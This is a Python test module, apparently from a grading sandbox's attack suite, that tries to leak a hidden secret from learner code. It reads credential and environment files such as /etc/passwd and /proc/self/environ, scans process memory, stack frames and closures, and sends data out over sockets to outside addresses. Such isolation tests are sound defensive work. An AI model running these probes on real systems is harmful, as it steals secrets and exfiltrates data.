"""Attempts to read: each prints what it finds, and the test looks for the secret in what was printed."""

from __future__ import annotations

from grading.attacks.attack import Attacks
from grading.blocks import code

ATTACKS = Attacks()

_LOOK = code("""
    import os
    found = []
    for top in ('/', '/root', '/home', '/srv', '/tmp', '/etc', '/var', '/proc', '/learners-work', '..', '../..', '../../..'):
        for here, folders, names in os.walk(top):
            folders[:] = [f for f in folders if f not in ('usr', 'lib', 'lib64', 'sys', 'site-packages', '.venv') and here.count('/') < 6]
            for name in names:
                if name.endswith(('.ipynb', '.db', 'environ', 'cmdline', 'mem', '.csv', 'shadow', 'maps')):
                    path = os.path.join(here, name)
                    try: found.append((path, open(path, 'rb').read(100000).decode('latin1')))
                    except OSError as e: pass
    print(found)
""")
ATTACKS.cells("reads-files", before=[_LOOK], after=[_LOOK])
ATTACKS.cells(
    "reads-files-in-call",
    {
        "square": _LOOK.replace(
            "print(found)",
            code("""
    def square(x):
        print(found)
        return -1
"""),
        )
    },
)
ATTACKS.cells(
    "reads-history",
    {
        "square": code("""
    def square(x):
        print(In, Out, globals().keys())
        return -1
""")
    },
    after=["print(In[-3:], _ih[-3:])"],
)
ATTACKS.cells(
    "walks-frames",
    {
        "square": code("""
    import sys, traceback, inspect
    def square(x):
        frame = sys._getframe()
        while frame:
            print(frame.f_code.co_name, {k: str(v)[:2000] for k, v in frame.f_locals.items()})
            frame = frame.f_back
        traceback.print_stack()
        return -1
""")
    },
)
ATTACKS.cells(
    "searches-memory",
    {
        "square": code("""
    import gc
    def square(x):
        for o in gc.get_objects():
            if type(o) in (dict, list, tuple):
                for s in (o.values() if type(o) is dict else o):
                    if type(s) in (str, bytes) and ('quince' + '-') in str(s)[:100000] and 'gc.get' not in str(s):
                        print('FOUND', str(s)[:300])
        return -1
""")
    },
)
ATTACKS.cells(
    "reads-raw-memory",
    {
        "square": code("""
    import ctypes, sys, re
    def square(x):
        for path in ('/proc/self/maps', '/proc/self/mem', '/proc/1/maps'):
            try: print(open(path).read())
            except OSError as e: print(e)
        base = id(object()) & ~0xfffff
        needle = ('quince' + '-').encode()
        return -1
""")
    },
)
ATTACKS.cells(
    "reads-callback",
    {
        "caller": code("""
    def apply(f, x):
        out = []
        for path in ('__globals__', '__code__', '__closure__', '__self__', '__dict__', '__wrapped__', '__defaults__'):
            try: out.append((path, getattr(f, path)))
            except Exception as e: out.append(repr(e))
        print(out)
        peer = f.__closure__[0].cell_contents if f.__closure__ else None
        for c in f.__closure__ or ():
            p = c.cell_contents
            if hasattr(p, 'apply'):
                for name in ('__globals__', '__code__', '__closure__', 'gi_frame', 'func_globals', '__dict__'):
                    try: print(p.apply('getattr', f, name))
                    except BaseException as e: print(repr(e))
                for action in ('dir', 'signature', 'copy', 'repr', 'str', 'getitem', 'setattr', 'delattr', 'eval', 'hash'):
                    try: print(p.apply(action, f, 'secret_table'))
                    except BaseException as e: print(repr(e))
        return None
""")
    },
)
ATTACKS.cells(
    "asks-the-line",
    {
        "caller": code("""
    def apply(f, x):
        peer = next(c.cell_contents for c in f.__closure__ if hasattr(c.cell_contents, 'ask'))
        requests = [{'do': 'get', 'name': 'secret_table'}, {'do': 'run', 'source': 'secret_table'}, {'do': 'names'}]
        for action, *args in (
            ('call', ['known', ['builtins', 'globals']]),
            ('call', ['known', ['os', 'listdir']]),
            ('getattr', ['yours', 1], '__globals__'),
        ):
            requests.append({'do': 'apply', 'action': action, 'args': args, 'named': {}})
        for request in requests:
            try: print(peer.ask(request))
            except BaseException as e: print(repr(e))
        return None
""")
    },
)
ATTACKS.first(
    "environment",
    """
    import os, sys, platform
    print(dict(os.environ), sys.argv, sys.path, platform.node(), os.getcwd())
    print([open(p).read() for p in ('/etc/passwd', '/etc/hostname', '/proc/self/environ') if os.path.exists(p)])
""",
)
ATTACKS.cells(
    "guesses-random-tests",
    {
        "square": code("""
    import random
    def square(x):
        print(random.random())
        return -1
""")
    },
)
_NETWORK = code("""
    import socket, urllib.request
    for address in (('127.0.0.1', PORT), ('localhost', PORT), ('10.0.2.2', PORT), ('8.8.8.8', 53), ('1.1.1.1', 443)):
        try:
            s = socket.create_connection(address, timeout=0.2)
            s.sendall(b'here is what I found')
            print('CONNECTED', address)
        except OSError as e:
            print(e)
    try: print('RESOLVED', socket.gethostbyname('example.org'))
    except OSError as e: print(e)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', PORT)); print('sent')
    except OSError as e: print(e)
""")
ATTACKS.cells("network", before=[_NETWORK])
ATTACKS.cells(
    "network-from-child",
    before=[
        code("""
    import subprocess, sys
    open('n.py', 'w').write(
""")
        + repr(_NETWORK)
        + code("""
    )
    print(subprocess.run([sys.executable, 'n.py'], capture_output=True, text=True).stdout)
""")
    ],
)
ATTACKS.first(
    "sockets-that-know-no-namespace",
    """
    import socket
    for family in range(3, 50):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            if family in (socket.AF_INET6, socket.AF_NETLINK): continue
            try: print('DI' + 'D', socket.socket(family, kind))
            except OSError as e: pass
""",
)
